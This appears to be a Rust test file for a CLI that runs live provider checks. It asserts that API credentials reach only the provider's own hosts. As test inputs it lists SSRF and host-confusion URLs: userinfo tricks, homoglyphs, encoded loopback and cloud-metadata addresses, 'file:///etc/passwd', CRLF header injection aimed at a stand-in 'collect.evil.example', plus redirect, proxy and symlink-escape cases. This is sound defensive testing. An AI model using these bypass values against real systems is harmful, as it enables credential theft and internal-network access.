//! What a judged folder may try to move a credential, and that none moves.

use super::scene::{Done, Scene, production_key, sandbox_id, sandbox_key};
use super::server::{Server, answer};

const EVIL: &str = "collect.evil.example";

/// The provider that holds its requests to the project's own base URL, which Begini's checks do not.
fn acme(scene: &Scene, folder: &str) {
    scene.write(
        &format!("{folder}/acme/pack.yaml"),
        "title: Acme\nessential: [api-key]\nroles:\n  \
         base-url: { kind: url, names: [ACME_BASE_URL] }\n  \
         api-key: { kind: credential, names: [ACME_API_KEY], per-environment: true }\n  \
         webhook-url: { kind: webhook-url, names: [ACME_WEBHOOK_URL] }\n\
         hosts: { sandbox: [api.acme.co], production: [live.acme.co] }\n\
         signature: { header: x-signature, algorithm: hmac-sha256, encoding: hex, \
         over: \"{body}\", key: api-key }\nevents: { paid: { id: \"{random-uid}\" } }\n",
    );
    let check = |name: &str, subject: &str| {
        scene.write(
            &format!("{folder}/acme/{name}.yaml"),
            &format!(
                "title: Acme answers\nstep: build-in-sandbox\nseverity: blocker\nwho: engineer\n\
                 why: One sentence.\nfix: One sentence.\nanswers: [API-01]\n{subject}\noutcomes:\n  \
                 - {{ when: status == 200, result: pass }}\n  \
                 - {{ when: \"true\", result: fail, message: it does not }}\n"
            ),
        );
    };
    let request = |class: &str, url: &str| {
        format!(
            "request:\n  environment: {class}\n  method: GET\n  url: \"{url}\"\n  \
             headers: {{ authorization: \"Bearer {{api-key}}\" }}"
        )
    };
    check("answers", &request("sandbox", "{base-url}/v1/ping"));
    let live = |subject: &str| format!("opt-in: production\n{subject}");
    check("answers-live", &live(&request("production", "https://live.acme.co/v1/ping")));
    check(
        "receives",
        "webhook: { to: sandbox, signed-as: sandbox, event: paid, signature: valid }",
    );
    check(
        "refuses-live",
        &live("webhook: { to: production, signed-as: sandbox, event: paid, signature: valid }"),
    );
}

const ACME_KEYS: [&str; 2] = ["sandbox-k3y-7f9a2c", "production-k3y-1d4e8b"];

fn acme_scene(base_url: &str) -> Scene {
    let scene = Scene::new(&[]);
    acme_files(&scene, base_url);
    acme(&scene, "packs");
    scene
}

fn acme_files(scene: &Scene, base_url: &str) {
    for (environment, key) in ["sandbox", "production"].iter().zip(ACME_KEYS) {
        let text = serde_json::json!({
            "ACME_BASE_URL": base_url,
            "ACME_API_KEY": key,
            "ACME_WEBHOOK_URL": format!("https://hooks-{environment}.lender.co.ke/acme"),
        });
        scene.write(&format!("project/{environment}.json"), &text.to_string());
    }
}

fn run(scene: &Scene, server: &Server, hosts: &[&str], more: &[&str]) -> Done {
    let connected = scene.connected(server, hosts);
    let mut typed: Vec<&str> = connected.iter().map(String::as_str).collect();
    typed.extend(["--live", "--format", "json"]);
    typed.extend(more);
    scene.check(&typed)
}

/// A server that answers `200` to everybody.
fn listener() -> Server {
    let names = [EVIL, "api.acme.co", "live.acme.co", "api.begini.co", "hooks.lender.co.ke"];
    let more = ["hooks-sandbox.lender.co.ke", "hooks-production.lender.co.ke"];
    Server::tls(&[&names[..], &more[..]].concat(), |_| answer("200 OK", "", "{}"))
}

fn begini_live(scene: &Scene, server: &Server, more: &[&str]) -> Done {
    run(scene, server, &["api.begini.co", "hooks.lender.co.ke", EVIL], more)
}

#[test]
fn a_credential_goes_to_no_host_but_the_providers() {
    for base_url in [
        "http://api.acme.co",
        "https://api.acme.co:8443",
        "https://me@api.acme.co",
        "https://me:pass@api.acme.co",
        "https://api.acme.co@collect.evil.example",
        "https://api.acme.co:443@collect.evil.example",
        "https://api.acme.co%2f@collect.evil.example",
        "https://collect.evil.example/api.acme.co",
        "https://collect.evil.example#@api.acme.co",
        "https://collect.evil.example?@api.acme.co",
        "https://collect.evil.example\\@api.acme.co",
        "https:\\\\collect.evil.example",
        "https://api.acme.co.evil.example",
        "https://api-acme.co",
        "https://api.acme.co.collect.evil.example",
        "https://xapi.acme.co",
        "https://sub.api.acme.co",
        "https://live.acme.co",
        "https://\u{430}pi.acme.co",
        "https://xn--pi-7kc.acme.co",
        "https://\u{ff41}pi.acme.co",
        "https://api\u{3002}acme.co",
        "https://api.acme.co\r\nHost: collect.evil.example",
        "https://api.acme.co\t.evil.example",
        "https://127.0.0.1",
        "https://0177.0.0.1",
        "https://0x7f.0.0.1",
        "https://0x7f000001",
        "https://2130706433",
        "https://127.1",
        "https://[::1]",
        "https://[::ffff:127.0.0.1]",
        "https://[::ffff:7f00:1]",
        "https://169.254.169.254",
        "ftp://api.acme.co",
        "file:///etc/passwd",
        "//api.acme.co",
        "",
    ] {
        let (scene, server) = (acme_scene(base_url), listener());
        let hosts = [
            EVIL,
            "api.acme.co",
            "live.acme.co",
            "api-acme.co",
            "xapi.acme.co",
            "sub.api.acme.co",
            "api.acme.co.evil.example",
            "api.acme.co.collect.evil.example",
            "xn--pi-7kc.acme.co",
            "127.0.0.1",
            "169.254.169.254",
        ];
        let done = run(&scene, &server, &hosts, &["--packs", "packs"]);
        assert_eq!(server.connections(), 0, "{base_url:?} {:?}", server.requests());
        assert!(done.result("acme/answers").starts_with("unknown: "), "{base_url:?}");
    }
}

#[test]
fn a_credential_goes_to_the_provider_alone() {
    for base_url in ["https://api.acme.co", "https://API.acme.co.", "https://api.acme.co:443/x/.."]
    {
        let (scene, server) = (acme_scene(base_url), listener());
        let done = run(&scene, &server, &["api.acme.co", EVIL], &["--packs", "packs"]);
        assert_eq!(done.result("acme/answers"), "pass", "{base_url}");
        let requests = server.requests();
        assert_eq!(requests.len(), 1, "{requests:?}");
        assert!(requests[0].contains(&format!("authorization: Bearer {}", ACME_KEYS[0])));
        assert!(requests[0].contains("host: api.acme.co\r\n"), "{}", requests[0]);
    }
}

#[test]
fn production_is_not_touched_without_leave() {
    let hosts = [
        "api.acme.co",
        "live.acme.co",
        "hooks-sandbox.lender.co.ke",
        "hooks-production.lender.co.ke",
    ];
    let hosts_asked = |more: &[&str]| {
        let (scene, server) = (acme_scene("https://api.acme.co"), listener());
        run(&scene, &server, &hosts, &[&["--packs", "packs"], more].concat());
        let requests = server.requests();
        let host = |request: &String| {
            request.lines().find_map(|line| line.strip_prefix("host: ")).unwrap().to_owned()
        };
        let mut asked: Vec<String> = requests.iter().map(host).collect();
        asked.sort();
        (asked, requests.concat())
    };
    let (asked, text) = hosts_asked(&[]);
    assert_eq!(asked, ["api.acme.co"]);
    assert!(!text.contains(ACME_KEYS[1]));
    // a grant is for what it names
    let (asked, _) = hosts_asked(&["--receiver", "acme/webhook-url"]);
    assert_eq!(asked, ["api.acme.co", "hooks-sandbox.lender.co.ke"]);
    let (asked, _) = hosts_asked(&["--receiver", "production:acme/webhook-url"]);
    assert_eq!(asked, ["api.acme.co"]);
    let (asked, _) = hosts_asked(&["--allow-production", "--receiver", "acme/webhook-url"]);
    assert_eq!(asked, ["api.acme.co", "hooks-sandbox.lender.co.ke", "live.acme.co"]);
    let (asked, text) =
        hosts_asked(&["--allow-production", "--receiver", "production:acme/webhook-url"]);
    assert_eq!(asked, ["api.acme.co", "hooks-production.lender.co.ke", "live.acme.co"]);
    assert!(text.contains(ACME_KEYS[1]));
}

#[test]
fn a_sandbox_probe_never_carries_a_value_that_may_be_productions() {
    let server = listener();
    for (sandbox, production) in [
        (production_key(), production_key()),
        (sandbox_key(), "vault:kv/production#key".to_owned()),
        (sandbox_key(), String::new()),
    ] {
        let scene = Scene::new(&[
            (
                ".env.sandbox",
                format!("BEGINI_API_KEY={sandbox}\nBEGINI_INTEGRATION_ID={}\n", sandbox_id()),
            ),
            (".env.production", format!("BEGINI_API_KEY={production}\n")),
        ]);
        begini_live(&scene, &server, &[]);
    }
    assert_eq!(server.connections(), 0);
}

#[test]
fn a_receiver_is_asked_only_where_somebody_allowed_it() {
    let server = listener();
    let scene = Scene::begini("https://hooks.lender.co.ke/begini");
    begini_live(&scene, &server, &[]);
    begini_live(&scene, &server, &["--receiver", "production:begini/webhook-url"]);
    let hooks = |requests: &[String]| {
        requests.iter().filter(|one| one.contains("host: hooks.lender.co.ke")).count()
    };
    assert_eq!(hooks(&server.requests()), 0);
    begini_live(&scene, &server, &["--receiver", "begini/webhook-url"]);
    assert!(hooks(&server.requests()) > 3);
}

#[test]
fn a_grant_without_an_address_reaches_nothing_private() {
    let (server, plain) = (listener(), Server::plain());
    for address in [
        "127.0.0.1",
        "127.1",
        "0177.0.0.1",
        "0x7f.1",
        "0x7f000001",
        "2130706433",
        "0.0.0.0",
        "0",
        "localhost",
        "LOCALHOST.",
        "api.localhost",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[0:0:0:0:0:ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "%31%32%37.0.0.1",
        "\u{ff11}27.0.0.1",
        "127。0。0。1",
        "10.0.0.7",
        "100.64.0.1",
        "169.254.169.254",
        "metadata.google.internal",
        "[fd00:ec2::254]",
    ] {
        for (scheme, port) in [("https", server.address.port()), ("http", plain.address.port())] {
            let scene = Scene::begini(&format!("{scheme}://{address}:{port}/begini"));
            let done = run(
                &scene,
                &server,
                &["169.254.169.254", "10.0.0.7", "100.64.0.1"],
                &[
                    "--receiver",
                    "begini/webhook-url",
                    "--only",
                    "begini/receiver-accepts-valid-event",
                ],
            );
            let result = done.result("begini/receiver-accepts-valid-event");
            assert!(result.starts_with("unknown: held back: "), "{address}: {result}");
        }
    }
    assert_eq!((server.connections(), plain.connections()), (0, 0));
}

#[test]
fn a_grant_with_an_address_reaches_that_address() {
    let (plain, other) = (Server::plain(), Server::plain());
    let scene = Scene::begini(&format!("http://127.0.0.1:{}/begini", other.address.port()));
    let url = format!("begini/webhook-url=http://127.0.0.1:{}/own", plain.address.port());
    let server = listener();
    run(&scene, &server, &[], &["--receiver", &url, "--only", "begini"]);
    assert!(plain.requests().iter().all(|one| one.starts_with("POST /own ")));
    assert!(plain.connections() > 3);
    assert_eq!(other.connections(), 0);
}

#[test]
fn a_redirect_is_not_followed() {
    for status in ["301 x", "302 x", "303 x", "307 x", "308 x"] {
        for location in [
            format!("https://{EVIL}/take"),
            format!("//{EVIL}/take"),
            "http://api.begini.co/take".to_owned(),
            "https://api.begini.co/take".to_owned(),
            "/take".to_owned(),
        ] {
            let headers = format!("location: {location}\r\nrefresh: 0; url={location}\r\n");
            let status_line = status.to_owned();
            let server = Server::tls(&["api.begini.co", "hooks.lender.co.ke", EVIL], move |_| {
                answer(&status_line, &headers, "")
            });
            let scene = Scene::begini("https://hooks.lender.co.ke/begini");
            begini_live(&scene, &server, &["--receiver", "begini/webhook-url"]);
            let requests = server.requests();
            assert!(requests.len() > 2, "{requests:?}");
            assert!(requests.iter().all(|one| !one.contains("/take")), "{status} {location}");
        }
    }
}

#[test]
fn a_manifest_sends_nothing_elsewhere() {
    for (manifest, wrong) in [
        (format!("parameters: {{ begini/api-host: {EVIL} }}\n"), true),
        ("parameters: { begini/api-host: api.begini.com }\n".to_owned(), true),
        (format!("hosts: {{ sandbox: [{EVIL}], production: [api.begini.co] }}\n"), false),
        ("roles: { begini/integration-id: NOTE }\n".to_owned(), false),
        ("roles: { begini/base-url: BEGINI_WEBHOOK_URL }\n".to_owned(), false),
    ] {
        let server = listener();
        let scene = Scene::begini(&format!("https://{EVIL}/begini"));
        scene.write("project/golive.yaml", &manifest);
        let done = begini_live(&scene, &server, &[]);
        assert_eq!(!done.errors.is_empty(), wrong, "{manifest}: {}", done.errors);
        let elsewhere =
            server.requests().iter().any(|one| !one.contains("host: api.begini.co\r\n"));
        assert!(!elsewhere, "{manifest}: {:?}", server.requests());
    }
}

#[test]
fn one_providers_key_is_not_anothers() {
    for roles in [
        "acme/api-key: BEGINI_API_KEY",
        "acme/api-key: begini.apiKey",
        "acme/api-key: API_KEY",
        "acme/api-key: KEY",
        "acme/base-url: BEGINI_WEBHOOK_URL",
    ] {
        let server = listener();
        let scene = Scene::begini("https://api.acme.co");
        acme(&scene, "packs");
        scene.write("project/golive.yaml", &format!("roles: {{ {roles} }}\n"));
        let sandbox = scene.read("project/.env.sandbox");
        scene.write(
            "project/.env.sandbox",
            &format!("{sandbox}ACME_BASE_URL=https://api.acme.co\n"),
        );
        run(&scene, &server, &["api.acme.co"], &["--packs", "packs"]);
        assert_eq!(server.connections(), 0, "{roles}: {:?}", server.requests());
    }
}

#[test]
fn text_of_the_tree_is_not_signed() {
    let server = listener();
    let evil = r#"x","event":{"type":"refund"},"y":"#;
    let scene = Scene::begini("https://hooks.lender.co.ke/begini");
    for environment in ["sandbox", "production"] {
        let path = format!("project/.env.{environment}");
        let text = scene.read(&path).replace(&sandbox_id(), &format!("'{evil}'"));
        scene.write(&path, &text);
    }
    begini_live(&scene, &server, &["--receiver", "begini/webhook-url"]);
    let bodies: Vec<String> =
        server.requests().into_iter().filter(|one| one.contains("x-signature")).collect();
    assert!(bodies.len() > 2, "{bodies:?}");
    assert!(bodies.iter().all(|one| !one.contains("refund")), "{bodies:?}");
}

#[test]
fn a_value_with_a_line_break_is_not_sent() {
    let server = listener();
    for key in
        ["abcdef123456\\r\\nhost: collect.evil.example", "abc\\ndef123456", "abc\\u0000d12345"]
    {
        let scene = Scene::new(&[
            (
                "config/sandbox.json",
                format!(
                    "{{ \"BEGINI_API_KEY\": \"{key}\", \"BEGINI_INTEGRATION_ID\": \"{}\" }}",
                    sandbox_id()
                ),
            ),
            (
                "config/production.json",
                format!("{{ \"BEGINI_API_KEY\": \"{}\" }}", production_key()),
            ),
        ]);
        begini_live(&scene, &server, &[]);
    }
    assert_eq!(server.connections(), 0, "{:?}", server.requests());
}

#[test]
fn a_pack_in_the_folder_is_not_asked_unless_trusted() {
    let scene = Scene::new(&[]);
    acme_files(&scene, "https://api.acme.co");
    acme(&scene, "project/checks");
    let server = listener();
    let hosts = ["api.acme.co", "live.acme.co", "api.begini.co"];
    let alone = run(&scene, &server, &hosts, &[]);
    assert!(!alone.output.contains("acme/answers\""), "{}", alone.output);
    let named = run(&scene, &server, &hosts, &["--packs", "project/checks"]);
    assert!(
        named.result("acme/answers").contains("--trust-packs"),
        "{}",
        named.result("acme/answers")
    );
    assert_eq!(server.connections(), 0);
    run(&scene, &server, &hosts, &["--packs", "project/checks", "--trust-packs"]);
    assert_eq!(server.requests().len(), 1);
}

#[cfg(unix)]
#[test]
fn a_link_does_not_make_a_pack_somebody_elses() {
    let scene = Scene::new(&[]);
    acme_files(&scene, "https://api.acme.co");
    acme(&scene, "elsewhere");
    acme(&scene, "project/checks");
    std::os::unix::fs::symlink(scene.path().join("elsewhere"), scene.path().join("project/out"))
        .unwrap();
    std::os::unix::fs::symlink(scene.path().join("project/checks"), scene.path().join("into"))
        .unwrap();
    let server = listener();
    for packs in ["into", "project/checks/acme", "into/acme"] {
        let done = run(&scene, &server, &["api.acme.co"], &["--packs", packs]);
        assert!(done.result("acme/answers").contains("--trust-packs"), "{packs}");
    }
    for packs in ["project/out", "project/../project/out", "project/out/acme"] {
        let done = run(&scene, &server, &["api.acme.co"], &["--packs", packs, "--trust-packs"]);
        assert!(done.errors.contains("leads out of the judged folder"), "{}", done.errors);
    }
    assert_eq!(server.connections(), 0);
    scene.write("secret.yaml", "title: not yours\n");
    let link = scene.path().join("project/checks/acme/linked.yaml");
    std::os::unix::fs::symlink(scene.path().join("secret.yaml"), link).unwrap();
    let done = run(&scene, &server, &[], &["--packs", "project/checks"]);
    assert!(done.errors.contains("leads out of the judged folder"), "{}", done.errors);
}

#[test]
fn a_pack_in_the_folder_does_not_take_a_providers_place_or_key() {
    let server = listener();
    let hosts = [EVIL, "api.begini.co"];
    let pack = |id: &str, names: &str| {
        let scene = Scene::begini("https://hooks.lender.co.ke/begini");
        scene.write(
            &format!("project/checks/{id}/pack.yaml"),
            &format!(
                "title: X\nroles:\n  api-key: {{ kind: credential, names: [{names}] }}\n\
                 hosts: {{ sandbox: [{EVIL}], production: [{EVIL}] }}\n"
            ),
        );
        scene.write(
            &format!("project/checks/{id}/asks.yaml"),
            &format!(
                "title: It answers\nstep: build-in-sandbox\nseverity: blocker\nwho: engineer\n\
                 why: One sentence.\nfix: One sentence.\nanswers: [API-01]\nrequest:\n  \
                 environment: sandbox\n  method: GET\n  url: \"https://{EVIL}/x\"\n  \
                 headers: {{ authorization: \"{{api-key}}\" }}\noutcomes:\n  \
                 - {{ when: \"true\", result: pass }}\n"
            ),
        );
        scene
    };
    let typed =
        ["--packs", "project/checks", "--trust-packs", "--assume-sandbox", "begini/api-key"];
    let done = run(&pack("begini", "BEGINI_API_KEY"), &server, &hosts, &typed);
    assert!(done.errors.contains("takes the place of `begini`"), "{}", done.errors);
    for names in ["BEGINI_API_KEY", "SANDBOX_BEGINI_API_KEY", "API_KEY", "KEY"] {
        run(&pack("aaa", names), &server, &hosts, &typed);
    }
    let requests = server.requests();
    assert!(requests.iter().all(|one| !one.contains(EVIL)), "{requests:?}");
    // its own it may send to its own
    let scene = pack("aaa", "AAA_API_KEY");
    let text = scene.read("project/.env.sandbox");
    scene.write("project/.env.sandbox", &format!("{text}AAA_API_KEY=own-k3y-998877\n"));
    run(&scene, &server, &hosts, &typed);
    let own = |one: &&String| one.contains("own-k3y-998877") && one.contains(EVIL);
    assert_eq!(server.requests().iter().filter(own).count(), 1);
}

#[test]
fn no_proxy_of_the_process_is_used() {
    let (server, proxy) = (listener(), Server::plain());
    let scene = Scene::begini("https://hooks.lender.co.ke/begini");
    let url = format!("http://127.0.0.1:{}", proxy.address.port());
    let connected = scene.connected(&server, &["api.begini.co"]);
    for connect in [&connected[..], &[]] {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_golive"));
        command.args(["check", "project", "--live", "--receiver", "begini/webhook-url"]);
        command.args(connect).current_dir(scene.path()).env_clear();
        for name in
            ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"]
        {
            command.env(name, &url);
        }
        let done = command.output().unwrap();
        assert!(!done.stdout.is_empty(), "{}", String::from_utf8_lossy(&done.stderr));
    }
    assert!(server.connections() > 0);
    assert_eq!(proxy.connections(), 0);
}
